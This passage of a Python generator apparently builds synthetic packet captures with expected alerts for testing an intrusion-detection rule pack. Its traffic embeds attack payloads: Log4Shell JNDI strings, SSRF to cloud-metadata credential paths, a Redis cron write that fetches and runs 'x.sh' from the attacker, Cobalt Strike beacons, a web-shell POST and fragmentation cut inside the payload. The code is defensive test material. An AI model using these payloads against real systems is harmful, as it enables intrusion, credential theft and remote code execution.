    req = ("POST /submit.php?id=1893217466 HTTP/1.1\r\nAccept: */*\r\nUser-Agent: %s\r\nHost: %s\r\n"
           "Content-Length: %d\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n"
           "Content-Type: application/octet-stream\r\n\r\n" % (CS_UA, C2_SERVER, len(body))).encode() + body
    sport = http_exchange(cap, net, ports, implant, C2_SERVER, req, http_response(b""), dt=1.0)
    return {"description": "Cobalt Strike default-profile HTTP beacon from a hooli host every 60 s, then a "
                           "task result POST",
            "alerts": [expect(9100701, "hooli", implant, C2_SERVER, 80, count=6, sports=beacon_ports, net=net,
                              note="six periodic check-ins, one alert each"),
                       expect(9100702, "hooli", implant, C2_SERVER, 80, sport=sport, net=net,
                              note="POST /submit.php?id= with an octet-stream body")]}


def scen_campaign(cap, ports):
    """One attacker across tenants: scans a hooli host, exploits it minutes later, then tries Log4Shell on
    acme, globex and initech. What the central service correlates (scan-then-exploit, cross-tenant)."""
    attacker = ATTACKERS["campaign"]
    net = NETS["hooli"]
    target = "10.50.2.20"
    probe_ports = [21, 22, 23, 25, 53, 80, 110, 139, 143, 443, 445, 993, 995, 1433, 3306, 3389, 5432, 6379,
                   8080, 9200]
    cap.rng.shuffle(probe_ports)
    sport = 52111
    for dport in probe_ports:
        fh = _fhash("hooli", attacker, target, sport, dport)
        cap.flow("hooli", 6, attacker, sport, target, dport)
        seq = cap.rng.randrange(1 << 32)
        syn = ip_layer(attacker, target, cap.rng) / TCP(sport=sport, dport=dport, flags="S", seq=seq, window=1024)
        cap.emit(net.frame(syn, True, fh), dt=cap.rng.uniform(0.05, 0.15))
        rst = ip_layer(target, attacker, cap.rng) / TCP(sport=dport, dport=sport, flags="RA", seq=0, ack=seq + 1,
                                                        window=0)
        cap.emit(net.frame(rst, False, fh))
    alerts = [expect(9100001, "hooli", attacker, target, probe_ports[4], sport=sport, net=net,
                     note="5th window-1024 SYN")]
    sp = http_exchange(cap, net, ports, attacker, target, http_get(SQLI_UNION, "shop.hooli.example"), dt=120.0)
    alerts.append(expect(9100101, "hooli", attacker, target, 80, sport=sp, net=net,
                         note="the scanned host exploited two minutes later"))
    for tenant, srv in [("acme", "10.0.0.95"), ("globex", "10.0.0.96"), ("initech", "10.100.0.95")]:
        n = NETS[tenant]
        sp = http_exchange(cap, n, ports, attacker, srv,
                           http_get("/", "app.%s.example" % tenant, ua="${jndi:ldap://%s:1389/c}" % JNDI_HOST),
                           http_response(status="400 Bad Request"), dport=8080, dt=30.0)
        alerts.append(expect(9100201, tenant, attacker, srv, 8080, sport=sp, net=n,
                             note="same source, another tenant"))
    return {"description": "One attacker: nmap scan then SQL injection on a hooli host, then Log4Shell against "
                           "acme, globex and initech (cross-tenant campaign)",
            "alerts": alerts}


def _resp(*words):
    """A Redis command in RESP (what redis-cli and client libraries send)."""
    out = b"*%d\r\n" % len(words)
    for w in words:
        w = w.encode() if isinstance(w, str) else w
        out += b"$%d\r\n%s\r\n" % (len(w), w)
    return out


def scen_cloud(cap, ports):
    """Cloud-specific exploitation: SSRF to the metadata service, file writes through open Redis."""
    attacker = ATTACKERS["cloud"]
    alerts = []
    net = NETS["acme"]
    srv = "10.0.0.97"
    for path in ["/api/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                 "/proxy?lang=en&target=http%3A%2F%2F100.100.100.200%2Flatest%2Fmeta-data%2Fram%2Fsecurity-credentials%2F"]:
        sp = http_exchange(cap, net, ports, attacker, srv, http_get(path, "api.acme.example"),
                           http_response('{"Code":"Success","AccessKeyId":"STS.EXAMPLE","Expiration":"2026-01-01"}',
                                         ctype="application/json"), dt=1.0)
        alerts.append(expect(9100801, "acme", attacker, srv, 80, sport=sp, net=net,
                             note="metadata URL inside a request parameter"))
    net = NETS["initech"]
    srv = "10.100.0.63"
    sp = ports()
    s = TcpSession(cap, net, attacker, srv, sp, 6379)
    s.open(dt=5.0)
    for cmd, reply in [(_resp("INFO", "server"), b"$52\r\n# Server\r\nredis_version:6.0.16\r\nredis_mode:standalone\r\n\r\n"),
                       (_resp("CONFIG", "SET", "dir", "/var/spool/cron/"), b"+OK\r\n"),
                       (_resp("CONFIG", "SET", "dbfilename", "root"), b"+OK\r\n"),
                       (_resp("SET", "x", "\n\n*/1 * * * * curl -fsSL http://%s/x.sh | sh\n\n" % attacker), b"+OK\r\n"),
                       (_resp("SAVE"), b"+OK\r\n")]:
        s.send(cmd)
        s.send(reply, from_client=False)
    s.close()
    alerts.append(expect(9100802, "initech", attacker, srv, 6379, count=2, sports=[sp, sp], net=net,
                         note="CONFIG SET dir and CONFIG SET dbfilename (RESP)"))
    net = NETS["umbrella"]
    srv = "10.200.0.63"
    sp = ports()
    s = TcpSession(cap, net, attacker, srv, sp, 6379)
    s.open(dt=5.0)
    s.send(b"config set dir /root/.ssh\r\n")
    s.send(b"+OK\r\n", from_client=False)
    s.close()
    alerts.append(expect(9100802, "umbrella", attacker, srv, 6379, sport=sp, net=net,
                         note="inline CONFIG SET dir"))
    return {"description": "Cloud-specific exploitation: SSRF to the metadata service (acme), cron/SSH-key "
                           "writes through unauthenticated Redis (initech, umbrella)",
            "alerts": alerts}


def _split_ip4(pkt, cuts):
    """Fragment an IPv4 packet at payload offsets CUTS (multiples of 8) into raw IP packets."""
    ip = pkt[IP]
    payload = bytes(ip.payload)
    bounds = [0] + cuts + [len(payload)]
    frags = []
    for i in range(len(bounds) - 1):
        a, b = bounds[i], bounds[i + 1]
        mf = 1 if i < len(bounds) - 2 else 0
        f = IP(src=ip.src, dst=ip.dst, ttl=ip.ttl, id=ip.id, proto=ip.proto, flags=mf, frag=a // 8) / Raw(payload[a:b])
        frags.append(f)
    return frags


def _split_ip6(pkt, cuts, ident):
    ip6 = pkt[IPv6]
    payload = bytes(ip6.payload)
    nh = ip6.nh
    bounds = [0] + cuts + [len(payload)]
    frags = []
    for i in range(len(bounds) - 1):
        a, b = bounds[i], bounds[i + 1]
        m = 1 if i < len(bounds) - 2 else 0
        f = IPv6(src=ip6.src, dst=ip6.dst, hlim=ip6.hlim) / IPv6ExtHdrFragment(nh=nh, offset=a // 8, m=m, id=ident) / Raw(payload[a:b])
        frags.append(f)
    return frags


def _fragmented_request(cap, net, cli, srv, dport, build, marker, ports):
    """A TCP session whose request segment is sent as IP fragments cut inside MARKER.

    BUILD(pad) returns the request with PAD bytes of padding before the marker; the smallest pad that
    puts an 8-byte fragment boundary inside the marker is used."""
    for pad in range(8):
        request = build(pad)
        pos = 20 + request.index(marker)
        if pos % 8 != 0 and (pos // 8 + 1) * 8 < pos + len(marker):
            break
    sport = ports()
    s = TcpSession(cap, net, cli, srv, sport, dport)
    s.open(dt=0.5)
    l3 = ip_layer(cli, srv, cap.rng) / TCP(sport=sport, dport=dport, flags="PA", seq=s.cseq & 0xFFFFFFFF,
                                             ack=s.sseq & 0xFFFFFFFF, window=502) / Raw(request)
    l3 = l3.__class__(bytes(l3))  # freeze checksums and lengths before cutting
    pos = 20 + request.index(marker)  # marker offset inside the IP payload (TCP header is 20 bytes)
    cut = (pos // 8 + 1) * 8  # first multiple of 8 after the marker starts
    assert cut < pos + len(marker), "fragment boundary must split the marker: pad the request"
    cuts = [cut, cut + 64] if cut + 72 < len(request) + 20 else [cut]
    frags = _split_ip6(l3, cuts, 0x5A5A0001) if ":" in cli else _split_ip4(l3, cuts)
    for f in frags:
        cap.emit(net.frame(f, True, s.fh))
    s.cseq += len(request)
    s._send(False, "A")
    s.send(http_response(status="404 Not Found"), from_client=False)
    s.close()
    return sport, len(frags)


def scen_fragments(cap, ports):
    alerts = []
    def req(pad):
        return http_get("/" + "a" * pad, "intranet.initech.example", ua="${jndi:ldap://%s:1389/Frag}" % JNDI_HOST)

    net = NETS["initech"]
    sport, n4 = _fragmented_request(cap, net, ATTACKERS["fragments"], "10.100.0.80", 80, req, b"${jndi:", ports)
    alerts.append(expect(9100201, "initech", ATTACKERS["fragments"], "10.100.0.80", 80, sport=sport, net=net,
                         note="IPv4 fragments (VLAN 100) cut inside ${jndi:"))
    net = NETS["hooli"]
    sport, n6 = _fragmented_request(cap, net, "2001:db8:bad::66", "fd00:50::80", 80, req, b"${jndi:", ports)
    alerts.append(expect(9100201, "hooli", "2001:db8:bad::66", "fd00:50::80", 80, sport=sport, net=net,
                         note="IPv6 fragments cut inside ${jndi:"))
    return {"description": "Log4Shell request sent as IP fragments (IPv4 on VLAN 100, IPv6 by CIDR)",
            "reassembled": 2,
            "fragments": {"ipv4": n4, "ipv6": n6}, "alerts": alerts}


def scen_ipv6(cap, ports):
    net = NETS["hooli"]
    cli, srv = "2001:db8:bad::7", "fd00:50::80"
    sport = http_exchange(cap, net, ports, cli, srv, http_get(SQLI_UNION, "shop.hooli.example"), dt=0.5)
    # Benign IPv6 browsing and DNS on the same host: must stay silent.
    http_exchange(cap, net, ports, "fd00:50::1234", srv, http_get("/search?q=how+to+select+a+laptop", "shop.hooli.example"))
    dns_query(cap, net, "fd00:50::1234", "fd00:50::53", ports(), "www.example.com", "AAAA", 0x3001,
              answer="2001:db8::80")
    return {"description": "SQL injection over IPv6 to a hooli server (fd00:50::/48), plus benign IPv6",
            "alerts": [expect(9100101, "hooli", cli, srv, 80, sport=sport, net=net, note="IPv6 UNION SELECT")]}


def scen_benign(cap, ports):
    """Normal traffic with near-misses for every rule: must raise no alert at all."""
    alerts = []
    web = [("acme", "10.0.0.15", "10.0.0.80"), ("initech", "10.100.0.15", "10.100.0.80"),
           ("hooli", "10.50.1.15", "10.50.1.80"), ("unassigned", "192.168.77.15", "192.168.77.80")]
    paths = ["/", "/search?q=how+to+select+a+laptop&sort=price", "/catalog?category=union+jack+flags",
             "/docs?topic=union+types+and+select+statements", "/blog/sleep-better-in-winter",
             "/recipes?q=drop+table+cloth+stains", "/books?author=O%27Reilly&q=tim+or+ted",
             "/docs/${version}/index.html", "/uploads/photo.jpg?cmd=resize&w=200",
             "/admin/settings.php?cmd=save", "/static/js/ga.js", "/pixel.gif?utm_source=newsletter"]
    for tenant, cli, srv in web:
        net = NETS[tenant]
        for p in paths:
            http_exchange(cap, net, ports, cli, srv,
                          http_get(p, "www.%s.example" % tenant,
                                   headers=["Cookie: _ga=GA1.2.1234567890.1767225600; lang=en"]), dt=0.7)
    net = NETS["hooli"]
    http_exchange(cap, net, ports, "10.50.1.16", "10.50.1.80",
                  http_post("/comment.php", "www.hooli.example", "comment=I%27m+going+or+not&q=php+base64_decode+example"))
    http_exchange(cap, net, ports, "10.50.1.16", "10.50.1.80",
                  http_post("/api/login", "www.hooli.example", '{"method":"login","user":"alice","pass":"s3cret"}',
                            ctype="application/json"),
                  http_response('{"ok":true,"uid":"u-1001"}', ctype="application/json"))
    http_exchange(cap, net, ports, "10.50.1.16", "10.50.1.81",
                  http_post("/rpc", "eth.hooli.example", '{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}',
                            ctype="application/json"), dport=8545)
    # A long-but-legitimate name and a couple of TXT lookups (SPF, DMARC).
    for i, (name, qtype, ans) in enumerate([
            ("www.example.com", "A", "93.184.215.14"),
            ("customer-portal-eu-central-1-production.static-assets.cdn.example.net", "A", "203.0.113.80"),
            ("ec2-203-0-113-25.eu-central-1.compute.example.com", "A", "203.0.113.25"),
            ("example.com", "TXT", [b"v=spf1 -all"]),
            ("_dmarc.example.com", "TXT", [b"v=DMARC1; p=reject"]),
            ("api.github.example", "AAAA", "2001:db8::443")]):
        dns_query(cap, net, "10.50.1.16", "10.50.0.2", ports(), name, qtype, 0x4000 + i, answer=ans)
        cap.tick(0.1, 0.3)
    # TLS browsing.
    for sni in ["www.example.com", "login.microsoftonline.example", "pool-party-tickets.example.org"]:
        sport = ports()
        s = TcpSession(cap, net, "10.50.1.16", "203.0.113.80", sport, 443)
        s.open(dt=0.3)
        s.send(tls_client_hello(sni, cap.rng))
        s.send(tls_server_flight(cap.rng), from_client=False)
        s.send(tls_app_data(cap.rng, 600))
        s.send(tls_app_data(cap.rng, 3000), from_client=False)
        s.close()
    # Two SSH sessions from an admin outside: below the brute-force threshold.
    for i in range(2):
        s = TcpSession(cap, NETS["initech"], "198.51.100.77", "10.100.0.22", ports(), 22)
        s.open(dt=5.0)
        s.send(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", from_client=False)
        s.send(b"SSH-2.0-OpenSSH_9.6\r\n")
        for _ in range(6):
            s.send(ssh_blob(cap.rng, cap.rng.randrange(64, 1200)))
            s.send(ssh_blob(cap.rng, cap.rng.randrange(64, 1200)), from_client=False)
        s.close()
    # Ordinary JavaScript from an analytics CDN, with an ordinary cookie (Cobalt Strike near-miss).
    http_exchange(cap, net, ports, "10.50.1.17", "203.0.113.90",
                  http_get("/ga.js", "cdn.example.net", headers=["Cookie: session=eyJhbGciOiJIUzI1NiJ9.e30." + "A" * 180]),
                  http_response("var x=1;", ctype="application/javascript"))
    # An instance reading its own metadata (not SSRF), and an application using Redis, tuning it too.
    http_exchange(cap, net, ports, "10.50.1.18", "169.254.169.254",
                  http_get("/latest/meta-data/instance-id", "169.254.169.254", ua="aws-sdk-go/1.44.0"),
                  http_response("i-0123456789abcdef0", ctype="text/plain"))
    s = TcpSession(cap, net, "10.50.1.18", "10.50.1.70", ports(), 6379)
    s.open(dt=0.2)
    for cmd in [_resp("CONFIG", "GET", "dir"), _resp("CONFIG", "SET", "maxmemory", "256mb"),
                _resp("SET", "session:42", "alice"), _resp("GET", "session:42")]:
        s.send(cmd)
        s.send(b"+OK\r\n", from_client=False)
    s.close()
    return {"description": "Benign browsing, DNS, TLS and SSH with near-misses for every rule: zero alerts",
            "alerts": alerts}


def scen_applayer(cap, ports):
    """Traffic that only the app-layer rules of the pack can see (needs HTTP/DNS/TLS parsing, issue 3)."""
    alerts = []
    net = NETS["globex"]
    sport = http_exchange(cap, net, ports, ATTACKERS["applayer"], "10.0.0.91",
                          http_get("/$%%7Bjndi:ldap:/%s:1389/a%%7D/index.jsp" % JNDI_HOST, "api.globex.example"),
                          dport=8080, dt=0.5)
    alerts.append(expect(9100204, "globex", ATTACKERS["applayer"], "10.0.0.91", 8080, sport=sport, net=net, app_proto="http",
                         note="JNDI lookup visible only after URL decoding"))
    net = NETS["umbrella"]
    sport = http_exchange(cap, net, ports, ATTACKERS["applayer"], "10.200.0.80",
                          http_post("/upload/x.php", "www.umbrella.example",
                                    "ant=%40ini_set(%22display_errors%22%2C%20%220%22)%3B%40set_time_limit(0)%3B",
                                    ua="antSword/v2.1"), dt=0.5)
    alerts.append(expect(9100304, "umbrella", ATTACKERS["applayer"], "10.200.0.80", 80, sport=sport, net=net, app_proto="http",
                         note="AntSword web shell manager User-Agent"))
    net = NETS["hooli"]
    sport = ports()
    s = TcpSession(cap, net, "10.50.6.31", "203.0.113.52", sport, 443)
    s.open(dt=0.5)
    s.send(tls_client_hello("gulf.moneroocean.stream", cap.rng))
    s.send(tls_server_flight(cap.rng), from_client=False)
    s.close()
    alerts.append(expect(9100404, "hooli", "10.50.6.31", "203.0.113.52", 443, sport=sport, net=net, app_proto="tls",
                         note="TLS SNI of a Monero mining pool"))
    sport = ports()
    dns_query(cap, net, "10.50.4.22", "10.50.0.2", sport, "dnscat.6f1a0000cafe0123456789.tunnel-example.net",
              "TXT", 0x5001, rcode=3)
    alerts.append(expect(9100603, "hooli", "10.50.4.22", "10.50.0.2", 53, sport=sport, proto="UDP", net=net,
                         app_proto="dns", note="dnscat2 query name"))
    return {"description": "App-layer-only detections: URL-decoded JNDI, AntSword UA, mining-pool SNI, dnscat2",
            "requires": ["applayer"], "alerts": alerts}


def scen_malformed(cap, ports):
    """Broken frames that must be counted by kind and never crash; then a real attack to prove we go on."""
    rng = cap.rng
    eth = bytes(Ether(src="02:00:5e:00:00:01", dst="02:00:5e:00:00:02", type=0x0800))
    good_ip = bytes(IP(src="10.50.9.1", dst="10.50.9.2", id=7) / TCP(sport=1234, dport=80, flags="S"))
    # 2 x IPv4 truncated: fewer than 20 bytes of IP header.
    for _ in range(2):
        cap.emit_raw(eth + good_ip[:12])
    # 3 x bad IHL (3 words = 12 bytes, less than the minimum of 5).
    for _ in range(3):
        b = bytearray(good_ip)
        b[0] = 0x43
        cap.emit_raw(eth + bytes(b))
    # 2 x truncated TCP: IP total length says 20 + 10, only 10 bytes of TCP header present.
    for _ in range(2):
        ip = IP(src="10.50.9.1", dst="10.50.9.2", id=rng.randrange(65536), proto=6) / Raw(good_ip[20:30])
        cap.emit_raw(eth + bytes(ip))
    # 2 x VXLAN whose inner Ethernet frame is cut after 10 bytes.
    for _ in range(2):
        outer = (Ether(src="02:00:5e:aa:00:01", dst="02:00:5e:aa:00:02") /
                 IP(src="172.31.0.11", dst="172.31.0.12", id=rng.randrange(65536)) /
                 UDP(sport=50000, dport=4789, chksum=0) / VXLAN(vni=5001) / Raw(b"\x02\x00\x5e\x00\x00\x02\x02\x00\x5e\x00"))
        cap.emit_raw(bytes(outer))
    # 1 x VXLAN with only 4 bytes of VXLAN header.
    outer = (Ether(src="02:00:5e:aa:00:01", dst="02:00:5e:aa:00:02") /
             IP(src="172.31.0.11", dst="172.31.0.12", id=99) / UDP(sport=50001, dport=4789, chksum=0) /
             Raw(b"\x08\x00\x00\x00"))
    cap.emit_raw(bytes(outer))
    # Too short to be VXLAN, so it is an ordinary UDP datagram of an unassigned flow.
    cap.flow("unassigned", 17, "172.31.0.11", 50001, "172.31.0.12", 4789)
    net = NETS["hooli"]
    sport = http_exchange(cap, net, ports, ATTACKERS["malformed"], "10.50.9.2",
                          http_get("/", "www.hooli.example", ua="${jndi:ldap://%s/after-malformed}" % JNDI_HOST), dt=0.5)
    return {"description": "Malformed frames (truncated IPv4, bad IHL, truncated TCP, VXLAN with a truncated inner "
                           "frame or header) followed by a Log4Shell request that must still alert",
            # Decoder error counters (stats.json decoder.errors) the frames above must produce. The inner
            # frame of a VXLAN packet is Ethernet, so its truncation is a link-layer error; a UDP/4789
            # datagram too short to be VXLAN is not VXLAN at all and stays plain UDP (no error).
            "decode_errors": {"ipv4_truncated": 2, "ipv4_bad_hlen": 3, "tcp_truncated": 2, "link_truncated": 2},
            "malformed_frames": 10,
            "alerts": [expect(9100201, "hooli", ATTACKERS["malformed"], "10.50.9.2", 80, sport=sport, net=net,
                              note="processing continues after malformed frames")]}


def count_encapsulations(frames):
    """Frames per encapsulation, read back from the bytes: VLAN-tagged (one or two tags), VXLAN (UDP 4789
    with a full 8-byte header, I flag set), GENEVE (UDP 6081), and IP datagrams completed from fragments."""
    n = {"vlan": 0, "vxlan": 0, "geneve": 0, "frag_reassembled": 0}
    for _, d in frames:
        et = struct.unpack("!H", d[12:14])[0]
        if et in (0x8100, 0x88A8):
            n["vlan"] += 1
        udp = None
        if et == 0x0800 and len(d) >= 14 + 20 + 8 and d[14 + 9] == 17:
            udp = 14 + (d[14] & 15) * 4
        elif et == 0x86DD and len(d) >= 14 + 40 + 8 and d[14 + 6] == 17:
            udp = 14 + 40
        if udp is not None:
            dport = struct.unpack("!H", d[udp + 2:udp + 4])[0]
            body = d[udp + 8:]
            if dport == 4789 and len(body) >= 8 and body[0] & 0x08:
                n["vxlan"] += 1
            elif dport == 6081 and len(body) >= 8:
                n["geneve"] += 1
    return n


SCENARIOS = [
    ("tenants.pcap", scen_tenants),
    ("scan.pcap", scen_scan),
    ("sqli.pcap", scen_sqli),
    ("log4shell.pcap", scen_log4shell),
    ("webshell.pcap", scen_webshell),
    ("mining.pcap", scen_mining),
    ("ssh_bruteforce.pcap", scen_ssh_bruteforce),
    ("dns_tunnel.pcap", scen_dns_tunnel),
    ("c2_beacon.pcap", scen_c2),
    ("fragments.pcap", scen_fragments),
    ("ipv6.pcap", scen_ipv6),
    ("campaign.pcap", scen_campaign),
    ("cloud.pcap", scen_cloud),
    ("benign.pcap", scen_benign),
    ("applayer.pcap", scen_applayer),
    ("malformed.pcap", scen_malformed),
]


def generate(out, seed=SEED, only=None):
    os.makedirs(out, exist_ok=True)
    ports = PortAlloc()
    manifest = {"generator": "tests/data/gen_traffic.py", "seed": seed, "config": "rules/tenants.example.yaml",
                "rules": "rules/yunshao-cloud.rules", "tenant_ids": TENANT_IDS, "pcaps": {}}
    merged = []
    for idx, (name, fn) in enumerate(SCENARIOS):
        # Each scenario has its own generator stream, so adding one never changes the others.
        rng = random.Random("%d/%s" % (seed, name))
        cap = Capture(T0 + idx * 3600, rng)
        entry = fn(cap, ports)
        entry.setdefault("requires", [])
        entry["packets"] = len(cap.frames)
        entry["bytes"] = sum(len(d) for _, d in cap.frames)
        entry["flows"] = len(cap.flows)
        entry["decoder"] = count_encapsulations(cap.frames)
        entry["decoder"]["frag_reassembled"] = entry.pop("reassembled", 0)
        entry["first_ts"] = cap.frames[0][0]
        entry["last_ts"] = cap.frames[-1][0]
        merged.extend(cap.frames)
        if only is None or name in only:
            write_pcap(os.path.join(out, name), cap.frames)
        manifest["pcaps"][name] = entry
    write_pcap(os.path.join(out, "sample.pcap"), merged)
    manifest["sample"] = {"file": "sample.pcap", "packets": len(merged),
                          "contains": [n for n, _ in SCENARIOS]}
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
        f.write("\n")
    return manifest


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True, help="directory for the pcaps and manifest.json")
    ap.add_argument("--seed", type=int, default=SEED, help="generator seed (default %(default)s)")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    m = generate(args.out, args.seed)
    if not args.quiet:
        for name, e in m["pcaps"].items():
            n = sum(a["count"] for a in e["alerts"])
            print("%-22s %6d packets  %3d expected alerts  %s" % (name, e["packets"], n, e["description"]))
        print("%-22s %6d packets  (all scenarios, an hour apart)" % ("sample.pcap", m["sample"]["packets"]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
